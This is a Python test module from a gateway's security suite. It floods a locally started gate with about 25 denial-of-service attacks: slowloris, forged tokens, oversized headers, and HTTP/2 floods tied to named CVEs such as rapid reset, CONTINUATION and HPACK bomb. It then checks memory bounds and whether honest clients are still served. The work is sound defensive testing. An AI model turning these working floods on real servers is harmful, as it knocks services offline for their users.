"""Floods: more of something than anybody needs, from one client. The gate's memory has to stay bounded, and whoever is
honest has to be served meanwhile.

Each is a function that goes on until a time, and says how many of what it sent. In the suite they are short, in
threads of its process; `tests/hostile/run --floods` runs each for longer, in processes of its own.
"""

from __future__ import annotations

import base64
import contextlib
import json
import multiprocessing
import secrets
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path

from soak.machine import mebibytes, raise_file_limit, resident

from ..check import Case, check
from ..gate import Tollgate
from ..profile import Profile
from ..wire import Conn, exchange, hang_up
from . import frames as f
from .frames import Link, block, frame, head

#: By how much the gate may grow under one of them. Measured: see docs/security-tests.md.
MOST_GROWTH = 128 << 20
#: So that a second shows what a minute would.
LIMITS = """
[limits]
head_timeout = "2s"
body_timeout = "2s"
"""


@dataclass(frozen=True)
class Target:
    """What a flood has to know."""

    address: str
    host: str
    #: Header lines with a credential, and without.
    granted: tuple[str, ...]
    bare: tuple[str, ...]
    protected: str
    token: str
    bearer: str
    cookie: str

    @classmethod
    def of(cls, profile: Profile) -> Target:
        granted, bare = tuple(profile.lines(token=profile.token)), tuple(profile.lines())
        return cls(
            profile.base, profile.host, granted, bare, profile.protected, profile.token, profile.bearer, profile.cookie
        )

    def request(self, *more: str, method: str = "GET", credential: bool = True, path: str = "/x") -> bytes:
        lines = [f"{method} {self.protected}{path} HTTP/1.1", *(self.granted if credential else self.bare), *more]
        return "\r\n".join(lines).encode() + b"\r\n\r\n"

    def fields(
        self, *more: tuple[bytes, bytes], method: bytes = b"GET", credential: bool = True, path: str = "/x"
    ) -> f.Fields:
        lines = [
            line.partition(":") for line in (self.granted if credential else self.bare) if not line.startswith("Host:")
        ]
        pseudo = [
            (b":method", method),
            (b":scheme", b"http"),
            (b":path", (self.protected + path).encode()),
            (b":authority", self.host.encode()),
        ]
        return [*pseudo, *((name.lower().encode(), value.strip().encode()) for name, _, value in lines), *more]

    def forged(self) -> str:
        """A token that looks as the real one does, and is another each time."""
        header, claims, signature = self.token.split(".")
        said = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))
        said["jti"] = secrets.token_hex(16)
        encoded = base64.urlsafe_b64encode(json.dumps(said).encode()).rstrip(b"=").decode()
        return f"{header}.{encoded}.{secrets.token_urlsafe(len(signature))[: len(signature)]}"


# === HTTP/1 ===


def _asking(target: Target, end: float, request: Callable[[], bytes], at_once: int = 1) -> int:
    """Sends requests over kept connections, as fast as they are answered."""
    sent = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), Conn(target.address, 5) as conn:
            while time.monotonic() < end and conn.send(request()):
                sent += at_once
                if conn.read().status <= 0:
                    break
    return sent


def forged_tokens(target: Target, end: float) -> str:
    line = lambda: target.bearer.format(token=target.forged())  # noqa: E731
    return f"{_asking(target, end, lambda: target.request(line(), credential=False))} tokens"


def heads_of_60_kib(target: Target, end: float) -> str:
    def request() -> bytes:
        return target.request(*(f"X-{secrets.token_hex(8)}: {secrets.token_hex(120)}" for _ in range(200)))

    return f"{_asking(target, end, request)} heads of 200 fields"


def heads_without_end(target: Target, end: float) -> str:
    size = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), Conn(target.address, 5) as conn:
            conn.send(target.request()[:-2])
            while time.monotonic() < end and conn.send(b"X-%d: y\r\n" % size * 100):
                size += 1000
    return f"{size // 1000} times 100 fields"


def cookies_of_60_kib(target: Target, end: float) -> str:
    name = target.cookie.partition(":")[2].partition("=")[0].strip() or "session"
    pairs = "; ".join(f"{name if number % 2 else f'c{number}'}={secrets.token_hex(20)}" for number in range(900))
    return f"{_asking(target, end, lambda: target.request(f'Cookie: {pairs}', credential=False))} cookies of 900 pairs"


def connections(target: Target, end: float) -> str:
    """Opened and left alone, and then opened and closed at once."""
    held: list[socket.socket] = []
    host, _, port = target.address.rpartition(":")
    opened = 0
    try:
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                sock = socket.create_connection((host, int(port)), timeout=1)
                opened += 1
                if len(held) < 1000:
                    held.append(sock)
                else:
                    sock.close()
    finally:
        for sock in held:
            sock.close()
    return f"{opened} connections, {len(held)} at once"


def slow_heads(target: Target, end: float) -> str:
    """Slowloris: a byte now and then, on many connections."""
    return _dripping(target, end, target.request("X-Slow: " + "y" * 1000))


def slow_bodies(target: Target, end: float) -> str:
    start = target.request("Content-Length: 1000000", method="POST")
    return _dripping(target, end, b"y" * 1000, start)


def _dripping(target: Target, end: float, data: bytes, start: bytes = b"") -> str:
    host, _, port = target.address.rpartition(":")
    held: dict[socket.socket, int] = {}
    opened = 0
    try:
        while time.monotonic() < end:
            while len(held) < 300 and time.monotonic() < end:
                with contextlib.suppress(OSError):
                    sock = socket.create_connection((host, int(port)), timeout=1)
                    held[sock] = 0
                    opened += 1
                    sock.sendall(start)
            for sock, at in list(held.items()):
                try:
                    sock.sendall(data[at : at + 1])
                    held[sock] = at + 1
                except OSError:
                    sock.close()
                    del held[sock]
            time.sleep(0.1)
    finally:
        for sock in held:
            sock.close()
    return f"{opened} connections, 300 at once"


def answers_that_nobody_reads(target: Target, end: float) -> str:
    sent = 0
    with contextlib.ExitStack() as stack:
        while time.monotonic() < end and sent < 200:
            with contextlib.suppress(OSError):
                conn = stack.enter_context(Conn(target.address, 1))
                conn.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                sent += conn.send(target.request(path="/large"))
        time.sleep(max(0.0, end - time.monotonic()))
    return f"{sent} answers of 8 MiB"


# === HTTP/2 ===


def _linked(target: Target, end: float, flood: Callable[[Link], int], opening: bytes | None = None) -> int:
    """Floods a connection, and another one when the gate has had enough."""
    sent = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), Link(target.address, timeout=1, opening=opening) as link:
            sent += flood(link)
    return sent


def _streams(target: Target, end: float, each: Callable[[int], bytes], at_once: int = 20) -> int:
    """On one stream after another, without waiting for anything."""

    def flood(link: Link) -> int:
        sent, stream = 0, 1
        while time.monotonic() < end and link.goaway is None:
            if not link.send(b"".join(each(stream + 2 * number) for number in range(at_once))):
                break
            sent, stream = sent + at_once, stream + 2 * at_once
            while link.take(time.monotonic() + 0.0005):
                pass
        return sent

    return _linked(target, end, flood)


def rapid_reset(target: Target, end: float) -> str:
    """CVE-2023-44487."""
    fields = block(target.fields())
    sent = _streams(target, end, lambda stream: head(stream, fields) + frame(f.RST_STREAM, 0, stream, b"\0\0\0\x08"))
    return f"{sent} streams"


def made_you_reset(target: Target, end: float) -> str:
    """CVE-2025-8671: the server is made to reset what it has begun to serve."""
    fields = block(target.fields(path="/hold"))
    sent = _streams(target, end, lambda stream: head(stream, fields) + frame(f.WINDOW_UPDATE, 0, stream, bytes(4)))
    return f"{sent} streams"


def made_you_reset_by_lengths(target: Target, end: float) -> str:
    """The same with a body that is longer than it says."""
    fields = block(target.fields((b"content-length", b"1"), method=b"POST", path="/hold"))
    sent = _streams(target, end, lambda stream: head(stream, fields, False) + frame(f.DATA, 1, stream, b"hello"))
    return f"{sent} streams"


def malformed_requests(target: Target, end: float) -> str:
    fields = block([*target.fields(), (b"X-Upper", b"y")])
    return f"{_streams(target, end, lambda stream: head(stream, fields))} streams"


def continuations(target: Target, end: float) -> str:
    """CVE-2024-27316: a head that never ends."""
    more = frame(f.CONTINUATION, 0, 1, b"\x00\x06x-test\x7f\x81\x01" + b"y" * 256) * 50

    def flood(link: Link) -> int:
        link.send(frame(f.HEADERS, f.END_STREAM, 1, block(target.fields())))
        return _until_it_has_enough(link, end, more, 50)

    return f"{_linked(target, end, flood)} frames"


def empty_continuations(target: Target, end: float) -> str:
    def flood(link: Link) -> int:
        link.send(frame(f.HEADERS, f.END_STREAM, 1, block(target.fields())))
        return _until_it_has_enough(link, end, frame(f.CONTINUATION, 0, 1) * 1000, 1000)

    return f"{_linked(target, end, flood)} frames"


def _until_it_has_enough(link: Link, end: float, data: bytes, count: int, reads: bool = True) -> int:
    sent = 0
    while time.monotonic() < end and link.goaway is None and link.send(data):
        sent += count
        while reads and link.take(time.monotonic() + 0.0005):
            pass
    return sent


def empty_data(target: Target, end: float) -> str:
    """CVE-2019-9518, RUSTSEC-2026-0258."""

    def flood(link: Link) -> int:
        link.request(1, target.fields(method=b"POST", path="/hold"), end=False)
        return _until_it_has_enough(link, end, frame(f.DATA, 0, 1) * 1000, 1000)

    return f"{_linked(target, end, flood)} frames"


def padding_alone(target: Target, end: float) -> str:
    def flood(link: Link) -> int:
        link.request(1, target.fields(method=b"POST", path="/hold"), end=False)
        return _until_it_has_enough(link, end, frame(f.DATA, f.PADDED, 1, b"\x09" + bytes(9)) * 100, 100)

    return f"{_linked(target, end, flood)} frames"


def _control(target: Target, end: float, data: bytes) -> str:
    """Frames that have to be answered, from somebody who does not read."""
    count = 1000
    return (
        f"{_linked(target, end, lambda link: _until_it_has_enough(link, end, data * count, count, reads=False))} frames"
    )


def pings(target: Target, end: float) -> str:
    """CVE-2019-9512."""
    return _control(target, end, frame(f.PING, 0, 0, b"12345678"))


def settings(target: Target, end: float) -> str:
    """CVE-2019-9515."""
    return _control(target, end, frame(f.SETTINGS))


def changing_windows(target: Target, end: float) -> str:
    return _control(
        target, end, frame(f.SETTINGS, 0, 0, b"\0\x04\0\0\0\0") + frame(f.SETTINGS, 0, 0, b"\0\x04\x7f\xff\xff\xff")
    )


def priorities(target: Target, end: float) -> str:
    """CVE-2019-9513."""
    data = b"".join(frame(f.PRIORITY, 0, 2 * number + 1, b"\0\0\0\0\x10") for number in range(1000))
    return f"{_linked(target, end, lambda link: _until_it_has_enough(link, end, data, 1000))} frames"


def unknown_frames(target: Target, end: float) -> str:
    data = frame(0x7F, 0, 0, bytes(16_384)) * 10
    return f"{_linked(target, end, lambda link: _until_it_has_enough(link, end, data, 10))} frames of 16 KiB"


def hpack_bomb(target: Target, end: float) -> str:
    """CVE-2016-6581: a field of 4,000 bytes is put into the table once, and named in one byte ever after."""
    fields = block(target.fields())
    put = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"y" * 4000

    def flood(link: Link) -> int:
        sent, stream = 0, 1
        link.send(head(stream, fields + put))
        while time.monotonic() < end and link.goaway is None:
            stream += 2
            if not link.send(head(stream, fields + b"\xbe" * 15_000)):
                break
            sent += 1
            link.wait(stream, 1)
        return sent

    return f"{_linked(target, end, flood)} heads of 60 MB"


def empty_fields(target: Target, end: float) -> str:
    """CVE-2019-9516: fields that cost nothing to send."""
    fields = block(target.fields()) + block([(b"x", b"")]) * 3000
    return f"{_streams(target, end, lambda stream: head(stream, fields), 2)} heads of 3,000"


def closed_windows(target: Target, end: float) -> str:
    """CVE-2019-9511, CVE-2019-9517: answers that nobody lets in, or by single bytes."""
    asked = 0
    with contextlib.ExitStack() as stack:
        for number in range(20):
            if time.monotonic() > end:
                break
            with contextlib.suppress(OSError):
                opening = f.PREFACE + frame(f.SETTINGS, 0, 0, b"\0\x04\0\0\0" + bytes([number % 2]))
                link = stack.enter_context(Link(target.address, timeout=1, opening=opening))
                fields = block(target.fields(path="/large"))
                if link.send(b"".join(head(2 * stream + 1, fields) for stream in range(90))):
                    asked += 90
        time.sleep(max(0.0, end - time.monotonic()))
    return f"{asked} answers of 8 MiB"


def bodies_that_never_come(target: Target, end: float) -> str:
    """Requests that hold a connection to the app each, and wait."""
    asked = 0
    with contextlib.ExitStack() as stack:
        for _ in range(10):
            with contextlib.suppress(OSError):
                link = stack.enter_context(Link(target.address, timeout=1))
                fields = block(target.fields((b"content-length", b"1000000"), method=b"POST", path="/hold"))
                if link.send(b"".join(head(2 * stream + 1, fields, False) for stream in range(90))):
                    asked += 90
        time.sleep(max(0.0, end - time.monotonic()))
    return f"{asked} requests"


FLOODS: dict[str, Callable[[Target, float], str]] = {
    flood.__name__: flood
    for flood in (
        forged_tokens, heads_of_60_kib, heads_without_end, cookies_of_60_kib, connections, slow_heads, slow_bodies,
        answers_that_nobody_reads, rapid_reset, made_you_reset, made_you_reset_by_lengths, malformed_requests,
        continuations, empty_continuations, empty_data, padding_alone, pings, settings, changing_windows, priorities,
        unknown_frames, hpack_bomb, empty_fields, closed_windows, bodies_that_never_come,
    )
}  # fmt: skip
OF_HTTP_2 = list(FLOODS)[8:]


# === what is measured ===


class App:
    """It serves each connection in a thread of its own, until it is closed."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0), backlog=1024)
        self.address = f"127.0.0.1:{self.socket.getsockname()[1]}"
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def close(self) -> None:
        hang_up(self.socket, self.thread)

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                sock, _ = self.socket.accept()
                threading.Thread(target=self._serve, args=(sock,), daemon=True).start()

    def _serve(self, sock: socket.socket) -> None:
        raise NotImplementedError


class Generous(App):
    """An app that answers with 8 MiB at /large, after a second at /hold, and else with a word."""

    #: Made once: 1,800 copies of it would take the time of the honest client.
    LARGE, SMALL = (
        b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body for body in (bytes(8 << 20), b"the app\n")
    )

    def _serve(self, sock: socket.socket) -> None:
        buffer = b""
        with sock, contextlib.suppress(OSError):
            while True:
                while b"\r\n\r\n" not in buffer:
                    got = sock.recv(65536)
                    if not got:
                        return
                    buffer += got
                said, _, buffer = buffer.partition(b"\r\n\r\n")
                target = said.split(b" ")[1]
                if not said.startswith(b"GET"):
                    # Bodies are not read: whoever sends one is not kept.
                    time.sleep(1)
                    sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                    return
                if target.endswith(b"/hold"):
                    time.sleep(1)
                sock.sendall(self.LARGE if target.endswith(b"/large") else self.SMALL)


@dataclass
class Measured:
    """What came of one flood. Bytes and seconds."""

    flood: str
    sent: str = ""
    before: int = 0
    peak: int = 0
    after: int = 0
    seconds: float = 0.0
    honest: list[float] = field(default_factory=list, repr=False)
    unanswered: list[str] = field(default_factory=list)

    def quantile(self, share: float) -> float:
        times = sorted(self.honest)
        return times[min(len(times) - 1, int(share * len(times)))] if times else 0.0


def measure(gate: Tollgate, name: str, seconds: float, processes: int = 0) -> Measured:
    """Floods it for a while, from as many processes (0: a thread of this one)."""
    profile, found = gate.profile(), Measured(name, before=resident(gate.process.pid))
    target, over = Target.of(profile), threading.Event()
    honest = target.request()
    end = time.monotonic() + seconds

    def watch() -> None:
        while not over.wait(0.02):
            found.peak = max(found.peak, resident(gate.process.pid))

    def ask() -> None:
        conn, number = None, 0
        while not over.wait(0.01):
            began = time.monotonic()
            try:
                # Now on a new connection, now on one that is kept.
                if conn is None or conn.over or number % 5 == 0:
                    conn = Conn(target.address, 10)
                number += 1
                conn.send(honest)
                status = conn.read().status
            except OSError as error:
                status = repr(error)
            if status == 200:
                found.honest.append(time.monotonic() - began)
            else:
                found.unanswered.append(str(status))

    threads = [threading.Thread(target=watch), threading.Thread(target=ask)]
    for thread in threads:
        thread.start()
    began = time.monotonic()
    try:
        found.sent = "; ".join(_flooding(name, target, end, processes))
    finally:
        found.seconds = time.monotonic() - began
        time.sleep(0.3)
        over.set()
        for thread in threads:
            thread.join()
    found.after = resident(gate.process.pid)
    found.peak = max(found.peak, found.after)
    return found


def _flooding(name: str, target: Target, end: float, processes: int) -> Iterator[str]:
    if not processes:
        yield FLOODS[name](target, end)
        return
    with multiprocessing.get_context("spawn").Pool(processes) as pool:
        # They take their time to begin.
        late = end + 1.5
        yield from pool.starmap(_in_process, [(name, target, late)] * processes)


def _in_process(name: str, target: Target, end: float) -> str:
    raise_file_limit(8192)
    return FLOODS[name](target, end)


class Quiet(Tollgate):
    """One whose log does not become a flood of its own."""

    def text(self, **changes: str) -> str:
        text = super().text(**changes)
        return (
            text.replace('level = "trace"', 'level = "warn"')
            .replace('access = "all"', "")
            .replace('audit = "stderr"', "")
        )


@contextlib.contextmanager
def flooded(binary: str, directory: Path) -> Iterator[Tollgate]:
    app = Generous()
    try:
        with Quiet(binary, directory, app.address, tables=LIMITS) as gate:
            # What is allocated once is none of a flood's.
            for _ in range(200):
                exchange(gate.base, Target.of(gate.profile()).request())
            yield gate
    finally:
        app.close()


def judge(it: Case, found: Measured, most: int = MOST_GROWTH) -> None:
    said = f"{found.flood}: {found.sent}"
    it.expect(
        found.honest and not found.unanswered,
        said,
        "whoever is honest is answered meanwhile",
        f"{len(found.honest)} answered, {len(found.unanswered)} not: {found.unanswered[:5]}",
    )
    it.expect(
        found.peak - found.before <= most,
        said,
        f"the gate grows by {mebibytes(most)} at most",
        mebibytes(found.peak - found.before),
    )


@check(
    "a flood of HTTP/2 takes little memory, and nobody's turn",
    ("CVE-2023-44487", "many", "served requests that their client had reset at once"),
    ("CVE-2024-27316", "Apache and others", "kept a head that never ended"),
    ("CVE-2025-8671", "h2 and others", "let clients have streams reset without end"),
    ("RUSTSEC-2026-0258", "h2", "kept empty DATA frames without a bound"),
)
def r18_floods_of_http_2(it: Case) -> None:
    it.needs(isinstance(it.control, Tollgate), "nobody here knows its process")
    with flooded(it.control.binary, it.control.directory / "flooded") as gate:
        for name in OF_HTTP_2:
            judge(it, measure(gate, name, 0.4))


# === by hand ===


def main(binary: str, directory: Path, seconds: float, only: str = "") -> tuple[str, list[dict[str, object]]]:
    """All of them, one after another, each against a gate that was started for it. The report: Markdown, and values."""
    raise_file_limit(16_384)
    rows, values = [], []
    for name in FLOODS:
        if only not in name:
            continue
        with flooded(binary, directory / name) as gate:
            found = measure(gate, name, seconds, processes=2)
            ready = gate.ask("/readyz")[0]
        values.append(
            {
                **asdict(found),
                "honest": len(found.honest),
                "p50": found.quantile(0.5),
                "p99": found.quantile(0.99),
                "ready": ready,
            }
        )
        memory = " → ".join(mebibytes(size) for size in (found.before, found.peak, found.after))
        honest = f"{len(found.honest)} of {len(found.honest) + len(found.unanswered)}"
        rows.append(
            f"| {name.replace('_', ' ')} | {found.sent} | {memory} | {honest} | "
            f"{found.quantile(0.5) * 1e3:.1f} ms | {found.quantile(0.99) * 1e3:.1f} ms |"
        )
        print(rows[-1], flush=True)
    table = [
        "| flood, from two processes | sent | memory before → at most → after | honest requests answered | p50 | p99 |",
        "|---|---|---|--:|--:|--:|",
        *rows,
    ]
    return "\n".join(table) + "\n", values
